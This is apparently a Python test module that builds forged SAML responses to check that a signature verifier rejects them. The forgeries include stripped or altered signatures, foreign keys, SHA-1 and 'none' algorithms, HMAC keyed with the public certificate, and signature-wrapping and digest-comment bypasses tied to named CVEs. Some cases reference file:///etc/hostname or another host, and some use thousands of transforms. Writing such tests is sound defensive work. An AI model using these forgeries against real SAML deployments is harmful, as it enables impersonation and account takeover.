"""Attacks by signatures: none, others' ones, changed ones, their algorithms, references and transforms."""

import base64
import copy

from lxml import etree

from peers import saml
from peers.saml import assertion_of, child, find, q, serialise
from peers.saml_signatures import TRANSFORMS, canonical, digest, resign, sign
from saml_attacks import HOSTNAME, Attacks, renamed, without_signature
from saml_cases import EC_KEY, EMAIL, GROUPS, OTHER, OTHER_KEY, RESPONDER

FORGERIES = Attacks({
    "unsigned": lambda case: case.build(),
    "a key of its own": lambda case: by_another(case),
    "a key of its own under the good certificate": lambda case: by_another(case, certificate=case.idp.certificate_pem),
    "a key of its own without a certificate": lambda case: by_another(case, certificate=None),
    "SHA-1": lambda case: case.idp.sign(case.build(), "both", algorithm="rsa-sha1", digest_algorithm="sha1"),
    "SHA-1 in the signature": lambda case: case.idp.sign(case.build(), "both", algorithm="rsa-sha1"),
    "SHA-1 in the digest": lambda case: case.idp.sign(case.build(), "both", digest_algorithm="sha1"),
    "an elliptic curve's algorithm for another key": lambda case: case.idp.sign(case.build(), "both", EC_KEY),
    "no algorithm": lambda case: case.idp.sign(case.build(), "both", algorithm="none"),
    "an empty algorithm": lambda case: case.idp.sign(case.build(), "both", algorithm=""),
    "inclusive C14N": lambda case: case.idp.sign(case.build(), transforms=["enveloped", "c14n"]),
    "C14N by default": lambda case: case.idp.sign(case.build(), transforms=["enveloped"]),
    "a thousand transforms": lambda case: case.idp.sign(case.build(), transforms=["enveloped", *["exc-c14n"] * 1_000]),
})


def by_another(case, **how):
    """Signed with a key that nobody knows."""
    return case.idp.sign(case.build(), "both", OTHER_KEY, **how)


@FORGERIES("the signature removed from the assertion", "the signature removed from the response")
def removed(case, name):
    tree = case.signed("both" if name.endswith("assertion") else "response")
    of = assertion_of(tree) if name.endswith("assertion") else tree
    of.remove(find(of, "ds:Signature"))
    return tree


@FORGERIES("another name", "another name in both")
def tampered(case, name):
    return renamed(case.signed("both" if name.endswith("both") else "assertion"), case.victim)


@FORGERIES("another attribute")
def tampered_attribute(case):
    tree = case.signed("both")
    find(tree, f".//saml:Attribute[@Name='{EMAIL}']/saml:AttributeValue").text = f"{case.victim}@example.com"
    return tree


@FORGERIES("an attribute more")
def attribute_added(case):
    tree = case.signed()
    statement = find(tree, ".//saml:AttributeStatement")
    child(child(statement, "saml:Attribute", Name=GROUPS), "saml:AttributeValue", "admin")
    return tree


@FORGERIES("another status over a signed assertion")
def status_changed(case):
    tree = case.signed("response", status=RESPONDER)
    find(tree, ".//samlp:StatusCode").set("Value", saml.SUCCESS)
    return tree


@FORGERIES("a signature that was touched")
def touched(case):
    tree = case.signed()
    value = find(tree, ".//ds:SignatureValue")
    value.text = ("A" if value.text[0] != "A" else "B") + value.text[1:]
    return tree


@FORGERIES("an empty signature", "a signature without a value", "a signature without SignedInfo",
           "a signature with nothing in it")
def emptied(case, name):
    tree = case.signed()
    signature = find(tree, ".//ds:Signature")
    if name == "an empty signature":
        find(signature, "ds:SignatureValue").text = ""
        return tree
    gone = {"value": "ds:SignatureValue", "SignedInfo": "ds:SignedInfo"}.get(name.split()[-1])
    for part in list(signature):
        if gone is None or part.tag == q(gone):
            signature.remove(part)
    return tree


@FORGERIES("one of two signatures broken")
def half_broken(case):
    """The assertion's is good, the response's is not."""
    tree = case.signed("both")
    find(find(tree, "ds:Signature"), "ds:SignatureValue").text = base64.b64encode(b"x" * 256).decode()
    return tree


@FORGERIES("a reference to the response from the assertion", "a reference to the assertion from the response",
           "an empty reference", "no reference's URI", "an empty reference from the assertion", "a reference by XPointer",
           "a reference to nothing", "a bare #")
def referred(case, name):
    tree = case.build()
    of = assertion_of(tree)
    whole, key = f"#{tree.get('ID')}", case.idp.key
    match name:
        case "a reference to the response from the assertion":
            sign(of, key, uri=whole, target=tree)
        case "a reference to the assertion from the response":
            sign(tree, key, uri=f"#{of.get('ID')}", target=of, transforms=["exc-c14n"])
        case "an empty reference":
            sign(tree, key, uri="")
        case "no reference's URI":
            sign(tree, key, uri=None)
        case "an empty reference from the assertion":
            sign(of, key, uri="", target=tree)
        case "a reference by XPointer":
            sign(of, key, uri=f"#xpointer(id('{of.get('ID')}'))")
        case "a reference to nothing":
            sign(of, key, uri=f"#{saml.new_id()}")
        case "a bare #":
            sign(of, key, uri="#")
    return tree


@FORGERIES("a reference to a file", "a reference to another host")
def referred_outside(case, name):
    tree = case.build()
    uri, target = ("file:///etc/hostname", HOSTNAME) if name.endswith("file") else (f"{OTHER}x", b"x")
    sign(assertion_of(tree), case.idp.key, uri=uri, target=target, transforms=[])
    return tree


def referring(case, *targets, tree):
    """Signs the assertion with a reference to each of these."""
    sign(assertion_of(tree), case.idp.key, references=[(f"#{t.get('ID')}", t) for t in targets])
    return tree


@FORGERIES("two references to the assertion", "a second reference to the status", "a first reference to the status",
           "no reference", "a thousand references")
def several_references(case, name):
    tree = case.build()
    of, status = assertion_of(tree), find(tree, "samlp:Status")
    status.set("ID", saml.new_id())
    targets = {"two references to the assertion": [of, of], "a second reference to the status": [of, status],
               "a first reference to the status": [status, of], "no reference": [], "a thousand references": [of] * 1_000}
    return referring(case, *targets[name], tree=tree)


@FORGERIES("two SignedInfo, the evil one first", "two SignedInfo, the evil one last")
def two_infos(case, name):
    """CVE-2025-29774: one is verified, the other believed."""
    tree = case.signed()
    of = assertion_of(tree)
    signature = find(of, "ds:Signature")
    renamed(of, case.victim)
    good = find(signature, "ds:SignedInfo")
    evil = copy.deepcopy(good)
    find(evil, ".//ds:DigestValue").text = digest(canonical(without_signature(of)))
    (good.addprevious if name.endswith("first") else good.addnext)(evil)
    return tree


@FORGERIES("a comment in the digest", "a comment in the digest's midst", "a second digest")
def digest_with_a_comment(case, name):
    """CVE-2025-29775: the comment is what was not signed and is read."""
    tree = case.signed()
    of = assertion_of(tree)
    value = find(of, ".//ds:DigestValue")
    renamed(of, case.victim)
    evil, good = digest(canonical(without_signature(of))), value.text
    if name == "a second digest":
        value.addprevious(copy.deepcopy(value))
        value.getprevious().text = evil
        return tree
    value.text, at = (None, 0) if name == "a comment in the digest" else (good[:10], 10)
    value.append(etree.Comment(evil))
    value[0].tail = good[at:]
    return tree


@FORGERIES("the digest of nothing")
def void(case):
    """What canonicalisation cannot be done of is not the same as nothing (CVE-2025-66568)."""
    tree = case.build()
    signature = sign(assertion_of(tree), case.idp.key)
    find(signature, ".//ds:DigestValue").text = digest(b"")
    resign(signature, case.idp.key)
    octets = serialise(renamed(tree, case.victim))
    return octets.replace(b"<saml:Subject>", b'<saml:Subject xmlns:r="relative">')


@FORGERIES("an XPath transform", "an XSLT transform", "a base64 transform", "a transform by nobody",
           "C14N with what it must not have")
def other_transforms(case, name):
    tree = case.build()
    of = assertion_of(tree)
    if name == "a transform by nobody":
        sign(of, case.idp.key, transforms=["enveloped", "urn:example:transform", "exc-c14n"])
    elif name == "a base64 transform":
        sign(of, case.idp.key, transforms=["enveloped", "base64"])
    else:
        kind = {"an XPath transform": "xpath", "an XSLT transform": "xslt"}.get(name, "exc-c14n")
        made = etree.Element(q("ds:Transform"), {"Algorithm": TRANSFORMS[kind]}, nsmap={"ds": saml.DS})
        if kind == "xslt":
            made.append(etree.fromstring(
                '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="@*|node()">'
                '<xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template></xsl:stylesheet>'))
        else:
            child(made, "ds:XPath", "true()")
        sign(of, case.idp.key, transforms=["enveloped", made] + ([] if kind == "exc-c14n" else ["exc-c14n"]))
    return tree


@FORGERIES("HMAC by the certificate as text", "HMAC by the certificate", "HMAC by the public key", "HMAC by next to nothing")
def by_hmac(case, name):
    """What everybody knows is no secret."""
    key = case.idp.key
    known = {"text": key.certificate_pem.encode(), "certificate": key.certificate_der, "key": key.public_der, "nothing": b"\0"}
    secret = known[name.split()[-1]]
    return case.idp.sign(case.build(), "both", secret, algorithm="hmac-sha256", certificate=key.certificate_pem)
